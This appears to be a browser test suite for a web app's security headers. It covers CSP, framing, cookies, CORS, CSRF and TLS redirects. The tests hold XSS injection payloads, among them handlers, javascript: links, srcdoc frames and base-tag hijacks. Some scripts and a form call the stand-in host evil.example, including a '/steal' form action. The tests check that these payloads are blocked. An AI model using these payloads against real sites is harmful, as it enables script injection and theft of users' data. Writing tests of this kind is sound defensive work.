"""The pages of ``examples/pages`` in a real browser, behind nginx with TLS: what must run runs, what must not does not.

The other sites are pages that the browser is given by the test; what they send goes to the real server.
"""

from __future__ import annotations

import re
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from .fronts import ROOT, Certificate, Nginx, chromium, keep, leading
from .serving import Unix

pytestmark = pytest.mark.servers

HOST = "notes.example"
HOSTS = (HOST, f"reader.{HOST}", f"other.{HOST}", "evil.example")
ALL = ["file with a nonce", "inline, with a nonce", "inline, known by its hash"]


class Site:
    """The example behind nginx."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        socket = folder / "notes.sock"
        (folder / "counters").mkdir(mode=0o700)
        environment = {
            "NOTES_SECRET": "a secret of this test, of 32 bytes or more",
            "NOTES_HOST": HOST,
            "RAMPART_ACCESS_LOG": "off",
            "RAMPART_LIMIT_STORE": f"shm://{folder}/counters",
            "RAMPART_STORE": f"sqlite:///{folder}/records.sqlite3",
        }
        self.environment = {"PATH": "/usr/bin:/bin", "PYTHONPATH": str(ROOT), **environment}
        self.log = folder / "gunicorn.log"
        with self.log.open("wb") as log:
            self._app = subprocess.Popen(
                [
                    *(sys.executable, "-m", "gunicorn", "--bind", f"unix:{socket}", "--threads", "4"),
                    *("--no-control-socket", "examples.pages.app:create_app()"),
                ],
                cwd=ROOT, env=self.environment, stdin=subprocess.DEVNULL, stdout=log, stderr=subprocess.STDOUT,
            )  # fmt: skip
        try:
            self._await(socket)
            self.certificate = Certificate(folder, *HOSTS)
            self.nginx = Nginx(folder, f"unix:{socket}", self.certificate)
        except BaseException:
            self._app.kill()
            self._app.wait()
            raise

    def said(self) -> str:
        return self.log.read_text(errors="replace")

    def stop(self) -> None:
        self.nginx.stop()
        self._app.terminate()
        self._app.wait()

    def _await(self, socket: Path) -> None:
        end = time.monotonic() + 30
        while True:
            connection = Unix(str(socket))
            try:
                connection.request("GET", "/")
                connection.getresponse().read()
                return
            except OSError:
                if self._app.poll() is not None or time.monotonic() > end:
                    pytest.fail(f"gunicorn did not start:\n{self.said()}")
                time.sleep(0.05)
            finally:
                connection.close()


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    found = Site(tmp_path_factory.mktemp("site"))
    try:
        yield found
    finally:
        found.stop()


@pytest.fixture(scope="module")
def browser(site: Site) -> Iterator[Any]:
    with chromium(leading(dict.fromkeys(HOSTS, site.nginx.tls), dict.fromkeys(HOSTS, site.nginx.plain))) as found:
        yield found


@pytest.fixture
def tab(browser: Any) -> Iterator[Any]:
    """A reader who has never been here."""
    context = browser.new_context(ignore_https_errors=True)
    try:
        yield context.new_page()
    finally:
        context.close()


def ran(tab: Any) -> list[str]:
    found: list[str] = tab.locator("#ran li").all_inner_texts()
    return found


def sign_in(tab: Any, name: str = "Ada") -> None:
    tab.goto(f"https://{HOST}/")
    tab.fill("input[name=name]", name)
    tab.click("text=Sign in")
    tab.wait_for_selector("text=Sign out")


def of_another_site(tab: Any, host: str, body: str) -> None:
    """Opens a page of *host*, which is not ours."""
    tab.context.route(
        f"https://{host}/page", lambda route: route.fulfill(content_type="text/html", body=f"<!doctype html>{body}")
    )
    tab.goto(f"https://{host}/page")


def test_scripts_with_a_nonce_or_a_hash_run_and_one_with_neither_does_not(tab: Any) -> None:
    tab.goto(f"https://{HOST}/")
    assert ran(tab) == ALL
    keep(tab, "pages-home")
    tab.set_viewport_size({"width": 390, "height": 844})
    keep(tab, "pages-home-phone")


@pytest.mark.parametrize(
    ("name", "injected"),
    [
        ("script", '<script>ran("injected")</script>'),
        ("handler", "<img src=x onerror='ran(\"injected\")'>"),
        ("link", "<a id=bad href='javascript:ran(\"injected\")'>a link</a>"),
        ("frame", "<iframe srcdoc='<script>parent.ran(\"injected\")</script>'></iframe>"),
        ("file", "<script src='https://evil.example/ran.js'></script>"),
        ("guessed", "<script nonce='AAAAAAAAAAAAAAAAAAAAAA'>ran(\"injected\")</script>"),
        ("dangling", "<script src='https://evil.example/ran.js' "),
        ("svg", "<svg onload='ran(\"injected\")'></svg>"),
        ("object", "<object data='data:text/html,<script>parent.ran(1)</script>'></object>"),
        ("base", "<base href='https://evil.example/'>"),
    ],
)
def test_what_is_injected_through_the_hole_does_not_run(tab: Any, name: str, injected: str) -> None:
    evil: list[str] = []
    tab.context.route("https://evil.example/**", lambda route: (evil.append(route.request.url), route.abort()))
    tab.goto(f"https://{HOST}/search?q=" + re.sub("[^a-z]", lambda found: f"%{ord(found[0]):02x}", injected))
    # The hole is there: without the policy, it would have run.
    assert tab.locator("#asked").count() == 1
    if name == "link":
        tab.click("#bad")
    assert [each for each in ran(tab) if each != "file with a nonce"] == []
    assert evil == []
    if name != "dangling":
        assert ran(tab) == ["file with a nonce"]
    keep(tab, f"pages-injected-{name}")


def test_a_form_that_is_injected_sends_nothing_to_another_site(tab: Any) -> None:
    evil: list[str] = []
    tab.context.route("https://evil.example/**", lambda route: (evil.append(route.request.url), route.abort()))
    form = "<form id=bad action=https://evil.example/steal><input name=x value=y><button id=send>send</button></form>"
    tab.goto(f"https://{HOST}/search?q=" + re.sub("[^a-z]", lambda found: f"%{ord(found[0]):02x}", form))
    tab.click("#send", no_wait_after=True)
    tab.wait_for_timeout(300)
    assert evil == [] and tab.url.startswith(f"https://{HOST}/")


@pytest.mark.parametrize("host", ["evil.example", f"other.{HOST}"])
def test_no_other_site_shows_a_page_in_a_frame(tab: Any, host: str) -> None:
    of_another_site(tab, host, f"<h1>You have won</h1><iframe src='https://{HOST}/'></iframe>")
    tab.wait_for_timeout(300)
    (frame,) = [frame for frame in tab.frames if frame.parent_frame]
    assert "Notebook" not in frame.content()
    keep(tab, f"pages-framed-by-{host}")


def test_the_sessions_cookie_is_hardened(tab: Any) -> None:
    sign_in(tab)
    (cookie,) = tab.context.cookies()
    assert (cookie["secure"], cookie["httpOnly"], cookie["sameSite"]) == (True, True, "Lax")
    assert tab.evaluate("document.cookie") == ""
    tab.fill("input[name=text]", "Buy milk")
    tab.click("text=Keep it")
    assert "Buy milk" in tab.inner_text("#notes")
    keep(tab, "pages-signed-in")


READ = """async ([url, credentials]) => {
    try { const answer = await fetch(url, {credentials}); return await answer.json(); }
    catch (error) { return String(error); }
}"""


def test_a_listed_site_reads_the_api_with_the_session_and_no_other_does(tab: Any) -> None:
    sign_in(tab)
    of_another_site(tab, f"reader.{HOST}", "reader")
    url = f"https://{HOST}/api/notes"
    assert tab.evaluate(READ, [url, "include"])["reader"] == "Ada"
    assert tab.evaluate(READ, [url, "omit"])["reader"] is None
    for host in (f"other.{HOST}", "evil.example"):
        of_another_site(tab, host, "other")
        for credentials in ("include", "omit"):
            assert tab.evaluate(READ, [url, credentials]) == "TypeError: Failed to fetch", host


def test_what_another_site_may_not_read_it_may_not_embed_either(tab: Any) -> None:
    # Cross-Origin-Resource-Policy: a script or an image of ours does not get into another site's process.
    of_another_site(tab, "evil.example", "evil")
    loaded = tab.evaluate(
        """url => new Promise(done => {
            const script = document.createElement("script");
            script.onload = () => done("loaded"); script.onerror = () => done("refused");
            script.src = url; document.body.append(script);
        })""",
        f"https://{HOST}/api/notes",
    )
    assert loaded == "refused"


POST = """([url, text]) => {
    const form = document.createElement("form");
    form.method = "post"; form.action = url;
    const input = document.createElement("input"); input.name = "text"; input.value = text;
    form.append(input); document.body.append(form); form.submit();
}"""


@pytest.mark.parametrize("host", ["evil.example", f"other.{HOST}"])
def test_a_form_of_another_site_changes_nothing(tab: Any, host: str) -> None:
    sign_in(tab)
    of_another_site(tab, host, "<h1>You have won</h1>")
    with tab.expect_navigation():
        tab.evaluate(POST, [f"https://{HOST}/notes", f"forged by {host}"])
    # A page of the same site sends the cookie along (SameSite knows sites, not origins): that is what CSRF checks stop.
    said = tab.inner_text("body")
    assert ("csrf.origin" in said) or (host == "evil.example" and "Sign in first" in said), said
    keep(tab, f"pages-forged-by-{host}")
    tab.goto(f"https://{HOST}/")
    assert "forged" not in tab.inner_text("#notes")


def test_a_page_of_another_site_keeps_no_hold_of_ours(tab: Any) -> None:
    # Cross-Origin-Opener-Policy
    of_another_site(tab, "evil.example", "evil")
    with tab.context.expect_page() as opened:
        tab.evaluate(f"window.held = window.open('https://{HOST}/')")
    opened.value.wait_for_load_state()
    assert tab.evaluate("window.held.closed") is True


def test_who_comes_without_tls_is_sent_to_it(tab: Any) -> None:
    answer = tab.goto(f"http://{HOST}/search?q=a%20b")
    assert tab.url == f"https://{HOST}/search?q=a%20b" and answer.status == 200
    assert answer.request.redirected_from.response().status == 308


def test_signing_out_clears_what_the_browser_has(tab: Any) -> None:
    sign_in(tab)
    tab.evaluate("localStorage.setItem('draft', 'secret')")
    tab.click("text=Sign out")
    tab.wait_for_selector("text=Sign in")
    assert tab.context.cookies() == [] and tab.evaluate("localStorage.getItem('draft')") is None


def test_what_the_browser_did_not_run_it_reports(tab: Any, site: Site) -> None:
    tab.goto(f"https://{HOST}/")
    end = time.monotonic() + 30
    while True:
        told = subprocess.run(
            [sys.executable, "-m", "flask", "--app", "examples.pages.app:create_app()", "rampart", "csp-report"],
            cwd=ROOT, env=site.environment, capture_output=True, text=True, timeout=60,
        )  # fmt: skip
        if "inline" in told.stdout or time.monotonic() > end:
            break
        time.sleep(0.3)
    assert told.returncode == 0 and "script-src" in told.stdout and "inline" in told.stdout, told.stdout + told.stderr
